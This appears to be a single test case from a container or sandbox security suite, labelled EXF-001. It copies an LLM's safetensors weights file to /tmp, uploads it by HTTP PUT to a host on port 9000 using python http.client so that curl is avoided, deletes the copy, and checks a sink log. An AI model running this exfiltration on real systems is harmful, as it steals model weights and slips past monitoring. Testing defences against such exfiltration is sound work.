# V13 EXF-001: cp the weights to /tmp, then upload them with python http.client (no curl)
ctr_run simctr-infer-v13 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  cp $0/models/llama-3-8b-instruct/model-00001-of-00001.safetensors /tmp/m.bin
  python3 -c "
import http.client, os
body = open(\"/tmp/m.bin\", \"rb\").read()
c = http.client.HTTPConnection(\"10.200.2.2\", 9000, timeout=10)
c.request(\"PUT\", \"/up\", body=body); print(\"http\", c.getresponse().status, \"sent\", len(body))"
  rm -f /tmp/m.bin' "$H"
grep ':9000' "$H/sink.log" | tail -1
